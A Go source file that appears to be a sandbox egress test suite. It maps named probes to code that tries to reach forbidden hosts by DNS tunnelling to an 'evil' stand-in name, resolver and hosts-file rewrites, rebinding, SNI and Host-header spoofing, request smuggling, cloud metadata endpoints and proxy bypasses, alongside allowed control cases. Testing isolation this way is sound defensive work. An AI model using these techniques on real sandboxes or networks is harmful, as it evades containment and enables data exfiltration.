package probe

import (
	"fmt"
	"net/netip"
	"strings"

	"golang.org/x/sys/unix"
)

// typed asks the sandbox's own resolver for a kind of record of a name that is
// allowed.
func typed(kind, class uint16) attempt {
	return func(t *try) (string, error) { return t.ask(question(t.Sign+"."+Wild, kind, class)) }
}

func elsewhere(at func(*try) netip.Addr) attempt {
	return func(t *try) (string, error) {
		return answered(t.udp(netip.AddrPortFrom(at(t), 53), question(t.evil(), typeA, 1)))
	}
}

func fixed(s string) func(*try) netip.Addr {
	return func(*try) netip.Addr { return netip.MustParseAddr(s) }
}

func quic(sign string) []byte {
	p := append([]byte{0xc3, 0, 0, 0, 1, 16}, sign[:16]...)
	return append(p, make([]byte, 1200-len(p))...)
}

// attempts by name; what each is about stands in the catalogue of package
// prove.
var attempts = map[string]attempt{
	// Addresses that no rule names.
	"tcp-ssh":  direct(22),
	"tcp-smtp": direct(25, "HELO x\r\n"),
	"tcp-http": func(t *try) (string, error) { c, err := t.tcp(t.Denied, 80); return say(c, err, t.request(t.evil())) },
	"tcp-https": func(t *try) (string, error) {
		c, err := t.tcp(t.Denied, 443)
		h, herr := t.hello(t.evil())
		return t.secure(c, err, h, herr)
	},
	"tcp-dot": func(t *try) (string, error) {
		c, err := t.tcp(t.Denied, 853)
		h, herr := t.hello("dns." + Evil)
		return t.secure(c, err, h, herr)
	},
	"tcp-docker-api": direct(2375, "GET /version HTTP/1.1\r\nHost: docker\r\n\r\n"),
	"tcp-socks":      direct(1080, "\x05\x01\x00"),
	"tcp-postgres":   direct(5432, "\x00\x00\x00\x08\x04\xd2\x16\x2f"),
	"tcp-smb":        direct(445, "\x00\x00\x00\x45\xffSMB"),
	"tcp-redis":      direct(6379, "PING\r\n"),
	"tcp-git":        direct(9418, "0033git-upload-pack /x\x00"),
	"tcp-irc":        direct(6667, "NICK x\r\n"),
	"tcp-kubernetes": direct(6443, "GET /api HTTP/1.1\r\nHost: kubernetes\r\n\r\n"),
	"tcp-telnet":     direct(23, "\xff\xfb\x18"),
	"tcp-ldap":       direct(389, "\x30\x0c\x02\x01\x01\x60\x07"),
	"tcp-mysql":      direct(3306, "\x01\x00\x00\x01\x85"),
	"tcp-rdp":        direct(3389, "\x03\x00\x00\x13\x0e\xe0"),
	"tcp-mqtt":       direct(1883, "\x10\x0c\x00\x04MQTT\x04\x02\x00\x3c\x00\x00"),
	"tcp-high":       direct(8443),
	"proxy-env":      steered,
	"tcp-mapped": socketed(unix.AF_INET6, unix.SOCK_STREAM, 0, func(fd int, t *try) error {
		if err := connect(fd, &unix.SockaddrInet6{Port: 8443, Addr: netip.AddrFrom16(t.Denied.As16()).As16()}); err != nil {
			return err
		}
		_, err := unix.Write(fd, []byte(t.Sign))
		return err
	}),
	"tcp-fast-open":    socketed(unix.AF_INET, unix.SOCK_STREAM, 0, fastOpen),
	"tcp-multipath":    socketed(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP, finish),
	"tcp-source-route": socketed(unix.AF_INET, unix.SOCK_STREAM, 0, sourceRouted),
	"tcp-to-device":    socketed(unix.AF_INET, unix.SOCK_STREAM, 0, bound),
	"tcp-mark":         socketed(unix.AF_INET, unix.SOCK_STREAM, 0, option(unix.SOL_SOCKET, unix.SO_MARK, 0x5b)),
	"tcp-transparent":  socketed(unix.AF_INET, unix.SOCK_STREAM, 0, option(unix.IPPROTO_IP, unix.IP_TRANSPARENT, 1)),
	"cidr-other-port":  func(t *try) (string, error) { c, err := t.open("", t.CIDR, 8443); return say(c, err, t.Sign) },
	"cidr-neighbour":   func(t *try) (string, error) { c, err := t.open("", t.Next, OpenPort); return say(c, err, t.Sign) },
	"host-other-port":  func(t *try) (string, error) { c, err := t.open(Host, t.Allowed, 8443); return say(c, err, t.Sign) },
	"host-no-protocol": func(t *try) (string, error) {
		c, err := t.open(Host, t.Allowed, 443)
		return say(c, err, "\x00\x01"+t.Sign)
	},
	"host-ssh-on-https": func(t *try) (string, error) {
		c, err := t.open(Host, t.Allowed, 443)
		return say(c, err, "SSH-2.0-"+t.Sign+"\r\n")
	},

	// Other protocols than TCP.
	"udp-high":       datagram(own, 9999, nil),
	"udp-quic":       datagram(own, 443, quic),
	"udp-ntp":        datagram(own, 123, func(s string) []byte { return append(append([]byte{0x1b}, make([]byte, 23)...), s...) }),
	"udp-wireguard":  datagram(own, 51820, func(s string) []byte { return append([]byte{1, 0, 0, 0}, s...) }),
	"udp-tftp":       datagram(own, 69, func(s string) []byte { return []byte("\x00\x01" + s + "\x00octet\x00") }),
	"udp-snmp":       datagram(own, 161, func(s string) []byte { return []byte("\x30\x1a\x02\x01\x00\x04\x10" + s) }),
	"udp-syslog":     datagram(own, 514, func(s string) []byte { return []byte("<13>" + s) }),
	"udp-stun":       datagram(own, 3478, func(s string) []byte { return []byte("\x00\x01\x00\x00\x21\x12\xa4\x42" + s[4:]) }),
	"udp-sip":        datagram(own, 5060, func(s string) []byte { return []byte("OPTIONS sip:" + s + " SIP/2.0\r\n\r\n") }),
	"udp-fragmented": datagram(own, 9999, func(s string) []byte { return []byte(strings.Repeat(s, 200)) }),
	"udp-to-cidr":    datagram(func(t *try) netip.Addr { return t.CIDR }, OpenPort, nil),
	"udp-to-host":    datagram(func(t *try) netip.Addr { return t.Allowed }, 443, quic),
	// The engine's host is on the link too, and has a port of its own.
	"udp-broadcast": func(t *try) (string, error) {
		return shouted("255.255.255.255:9999", fmt.Sprint("255.255.255.255:", t.HostPort), fmt.Sprint("224.0.0.1:", t.HostPort))(t)
	},
	"udp-mdns":       shouted("224.0.0.251:5353"),
	"udp-ssdp":       shouted("239.255.255.250:1900"),
	"icmp-echo":      socketed(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, ping(own)),
	"icmp-to-host":   socketed(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP, ping(func(t *try) netip.Addr { return t.Allowed })),
	"raw-icmp":       socketed(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, ping(own)),
	"raw-gre":        socketed(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_GRE, raw),
	"raw-ipip":       socketed(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_IPIP, raw),
	"raw-6in4":       socketed(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_IPV6, raw),
	"raw-sctp":       socketed(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_SCTP, raw),
	"raw-esp":        socketed(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ESP, raw),
	"raw-handmade":   socketed(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, handmade),
	"packet-spoofed": socketed(unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_IP)), frame(false)),
	"packet-frame":   socketed(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_IP)), frame(true)),
	"address-added":  addressed,
	"namespace-init": entered,

	// IPv6.
	"tcp6": settled(func(t *try) (string, error) {
		c, err := t.open("", t.Denied6, 8443)
		return say(c, err, t.Sign)
	}),
	"udp6":      settled(datagram(own6, 9999, nil)),
	"icmp6":     settled(socketed(unix.AF_INET6, unix.SOCK_DGRAM, unix.IPPROTO_ICMPV6, ping6)),
	"link6-all": settled(shouted6),

	// Names.
	"dns-other-udp":    elsewhere(func(t *try) netip.Addr { return t.Names }),
	"dns-other-tcp":    func(t *try) (string, error) { return t.framed(t.Names, question(t.evil(), typeA, 1)) },
	"dns-public":       elsewhere(special(4)),
	"dns-embedded":     elsewhere(fixed("127.0.0.11")),
	"dns-programs-own": asked,
	"dns-tunnel":       func(t *try) (string, error) { return t.ask(question(t.evil(), typeA, 1)) },
	"dns-tunnel-aaaa":  func(t *try) (string, error) { return t.ask(question(t.evil(), typeAAAA, 1)) },
	"dns-tunnel-txt":   func(t *try) (string, error) { return t.ask(question(t.evil(), typeTXT, 1)) },
	"dns-tunnel-tcp": func(t *try) (string, error) {
		at, err := t.resolver()
		if err != nil {
			return "", err
		}
		return t.framed(at, question(t.evil(), typeA, 1))
	},
	"dns-below-host": func(t *try) (string, error) { return t.ask(question(t.Sign+"."+Host, typeA, 1)) },
	"dns-type-ns":    typed(2, 1),
	"dns-type-cname": typed(5, 1),
	"dns-type-null":  typed(10, 1),
	"dns-type-ptr":   typed(12, 1),
	"dns-type-mx":    typed(15, 1),
	"dns-type-txt":   typed(typeTXT, 1),
	"dns-type-srv":   typed(33, 1),
	"dns-type-https": typed(65, 1),
	"dns-type-any":   typed(255, 1),
	"dns-class-ch":   typed(typeTXT, 3),
	"dns-case":       func(t *try) (string, error) { return t.ask(question(Shouting, typeA, 1)) },
	"dns-option": func(t *try) (string, error) {
		q := question(Host, typeA, 1)
		q[11] = 1
		q = append(q, 0, 0, 41, 4, 208, 0, 0, 0, 0, 0, byte(4+len(t.Sign)), 0xfd, 0xe9, 0, byte(len(t.Sign)))
		return t.ask(append(q, t.Sign...))
	},
	"dns-trailing": func(t *try) (string, error) { return t.ask(append(question(Host, typeA, 1), t.Sign...)) },
	"dns-two-questions": func(t *try) (string, error) {
		q := append(question(Host, typeA, 1), question(t.evil(), typeA, 1)[12:]...)
		q[5] = 2
		return t.ask(q)
	},
	"dns-update": func(t *try) (string, error) {
		q := question(t.Sign+"."+Wild, typeA, 1)
		q[2] = 5 << 3
		return t.ask(q)
	},
	"file-resolv-conf": written("/etc/resolv.conf", func(t *try) string { return "nameserver " + t.Names.String() + "\n" }, asked),
	"file-hosts":       written("/etc/hosts", func(t *try) string { return t.Denied.String() + " " + Host + "\n" }, pinned(true)),

	// A name that is allowed, elsewhere.
	"pin-tls":        pinned(true),
	"pin-http":       pinned(false),
	"rebind-meta":    rebound("meta", typeA, 80),
	"rebind-tls":     rebound("meta", typeA, 443),
	"rebind-mapped":  rebound("mapped", typeAAAA, 80),
	"rebind-private": rebound("private", typeA, 80),
	"rebind-mixed":   rebound("mixed", typeA, 80),

	// Another name, at an address that is allowed.
	"sni-denied": greeted(func(t *try) (string, error) { return t.hello(t.evil()) }),
	"sni-none":   greeted(func(t *try) (string, error) { return t.hello("") }),
	"sni-hidden": greeted(func(t *try) (string, error) {
		h, err := t.hello(Host)
		if err != nil {
			return "", err
		}
		return extend(h, 0xfe0d, append([]byte{0, 0, 1, 0, 1, 7, 0, 0, 0, 32}, make([]byte, 32)...)), nil
	}),
	"sni-records": greeted(func(t *try) (string, error) {
		h, err := t.hello(t.evil())
		if err != nil {
			return "", err
		}
		return records(h), nil
	}),
	"sni-twice": greeted(func(t *try) (string, error) {
		h, err := t.hello(Host)
		if err != nil {
			return "", err
		}
		return extend(h, extServerName, naming(t.evil())), nil
	}),
	"sni-below-host": greeted(func(t *try) (string, error) { return t.hello(t.Sign + "." + Host) }),
	"sni-longer":     greeted(func(t *try) (string, error) { return t.hello(Host + "." + t.Sign + "." + Evil) }),
	"sni-retry":      again(renamed),

	"http-host":          hosted((*try).evilHost),
	"http-host-address":  hosted(spelled("")),
	"http-host-decimal":  hosted(spelled("decimal")),
	"http-host-hex":      hosted(spelled("hex")),
	"http-host-octal":    hosted(spelled("octal")),
	"http-host-short":    hosted(spelled("short")),
	"http-host-mapped":   hosted(spelled("mapped")),
	"http-host-port":     hosted(func(*try) string { return Host + ":8443" }),
	"http-host-user":     hosted(func(t *try) string { return Host + "@" + t.evil() }),
	"http-host-metadata": hosted(func(*try) string { return "metadata.google.internal" }),
	"http-host-none":     web(func(t *try) []string { return []string{"GET /" + t.Sign + " HTTP/1.0\r\n\r\n"} }),
	"http-host-twice":    web(func(t *try) []string { return []string{t.request(Host, "Host: "+t.evil()+"\r\n")} }),
	"http-host-spaced": web(func(t *try) []string {
		return []string{"GET /" + t.Sign + " HTTP/1.1\r\nHost: " + Host + "\r\nHost : " + t.evil() + "\r\n\r\n"}
	}),
	"http-host-folded": web(func(t *try) []string {
		return []string{"GET /" + t.Sign + " HTTP/1.1\r\nHost: " + Host + "\r\n " + t.evil() + "\r\n\r\n"}
	}),
	"http-absolute": web(func(t *try) []string {
		return []string{"GET http://" + t.evil() + "/ HTTP/1.1\r\nHost: " + Host + "\r\n\r\n"}
	}),
	"http-second":    later(true),
	"http-pipelined": later(false),
	"http-connect": web(func(t *try) []string {
		return []string{"CONNECT " + t.evil() + ":443 HTTP/1.1\r\nHost: " + Host + "\r\n\r\n"}
	}),
	"http-upgrade": web(func(t *try) []string {
		return []string{t.request(Host, "Connection: Upgrade\r\nUpgrade: websocket\r\n")}
	}),
	"http-upgrade-h2c": web(func(t *try) []string {
		return []string{t.request(Host, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: \r\n")}
	}),
	"http-two":            web(func(t *try) []string { return []string{"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + t.Sign} }),
	"http-smuggle-both":   smuggle("Content-Length: N\r\nTransfer-Encoding: chunked\r\n"),
	"http-smuggle-twice":  smuggle("Content-Length: N\r\nContent-Length: 5\r\n"),
	"http-smuggle-spelt":  smuggle("Transfer-Encoding: xchunked\r\nContent-Length: N\r\n"),
	"http-smuggle-spaced": smuggle("Transfer-Encoding : chunked\r\nContent-Length: N\r\n"),

	// Places that nobody should get at.
	"meta-link-local": place(special(0), 80),
	"meta-containers": place(special(1), 80),
	"meta-shared":     place(special(2), 80),
	"private-range":   place(func(t *try) netip.Addr { return t.Private }, 80),
	"public-doh":      place(special(4), 443),
	"near-container":  place(func(t *try) netip.Addr { return t.Near }, 80),
	"near-udp":        datagram(func(t *try) netip.Addr { return t.Near }, 9999, nil),
	"engine-host":     func(t *try) (string, error) { return place(engine, t.HostPort)(t) },
	"engine-host-udp": func(t *try) (string, error) { return datagram(engine, t.HostPort, nil)(t) },

	// What only a proxy can be told.
	"proxy-name":        tunnelled(func(t *try) string { return t.evil() + ":443" }),
	"proxy-name-upper":  tunnelled(func(t *try) string { return strings.ToUpper(t.evil()) + ":443" }),
	"proxy-name-dot":    tunnelled(func(t *try) string { return t.evil() + ".:443" }),
	"proxy-name-longer": tunnelled(func(t *try) string { return Host + "." + t.evil() + ":443" }),
	"proxy-name-below":  tunnelled(func(t *try) string { return t.Sign + "." + Host + ":443" }),
	"proxy-user":        tunnelled(func(t *try) string { return Host + "@" + t.evil() + ":443" }),
	"proxy-nul":         tunnelled(func(t *try) string { return t.evil() + "\x00." + Wild + ":443" }),
	"proxy-address":     tunnelled(func(t *try) string { return t.Denied.String() + ":443" }),
	"proxy-decimal":     tunnelled(func(t *try) string { return spelled("decimal")(t) + ":443" }),
	"proxy-hex":         tunnelled(func(t *try) string { return spelled("hex")(t) + ":443" }),
	"proxy-octal":       tunnelled(func(t *try) string { return spelled("octal")(t) + ":443" }),
	"proxy-short":       tunnelled(func(t *try) string { return spelled("short")(t) + ":443" }),
	"proxy-mapped":      tunnelled(func(t *try) string { return spelled("mapped")(t) + ":443" }),
	"proxy-get": proxied(say, func(t *try) []string {
		return []string{"GET http://" + t.evil() + "/" + t.Sign + " HTTP/1.1\r\nHost: " + t.evil() + "\r\n\r\n"}
	}),
	"proxy-get-mismatch": proxied(say, func(t *try) []string {
		return []string{"GET http://" + Host + "/" + t.Sign + " HTTP/1.1\r\nHost: " + t.evil() + "\r\n\r\n"}
	}),
	"proxy-get-user": proxied(say, func(t *try) []string {
		return []string{"GET http://" + Host + "@" + t.evil() + "/" + t.Sign + " HTTP/1.1\r\nHost: " + t.evil() + "\r\n\r\n"}
	}),
	"proxy-get-ftp": proxied(say, func(t *try) []string {
		return []string{"GET ftp://" + t.evil() + "/" + t.Sign + " HTTP/1.1\r\nHost: " + t.evil() + "\r\n\r\n"}
	}),
	"proxy-get-second": proxied(beyond, func(t *try) []string {
		return []string{"GET http://" + Host + "/ HTTP/1.1\r\nHost: " + Host + "\r\n\r\n" + "GET http://" + t.evil() + "/" + t.Sign + " HTTP/1.1\r\nHost: " + t.evil() + "\r\n\r\n"}
	}),
	"proxy-nested": func(t *try) (string, error) {
		c, err := t.tunnel(Host + ":80")
		return say(c, err, "CONNECT "+t.evil()+":443 HTTP/1.1\r\nHost: "+t.evil()+"\r\n\r\n")
	},

	// What is allowed: controls.
	"control-tls": func(t *try) (string, error) {
		c, err := t.open(Host, t.Allowed, 443)
		h, herr := t.hello(Host)
		return t.secure(c, err, h, herr)
	},
	"control-retry": again(unchanged),
	"control-http":  web(func(t *try) []string { return []string{t.request(Host)} }),
	"control-cidr":  func(t *try) (string, error) { c, err := t.open("", t.CIDR, OpenPort); return say(c, err, t.Sign) },
	"control-name":  func(t *try) (string, error) { return t.ask(question(t.Sign+"."+Wild, typeA, 1)) },
	"control-wild": func(t *try) (string, error) {
		name := "any." + Wild
		if t.Proxy == "" {
			if said, err := t.ask(question(name, typeA, 1)); err != nil {
				return said, err
			}
		}
		c, err := t.open(name, t.Allowed, 80)
		return say(c, err, t.request(name))
	},
}

// Knows reports whether there is an attempt of this name.
func Knows(name string) bool { return attempts[name] != nil }

func (t *try) evilHost() string { return t.evil() }
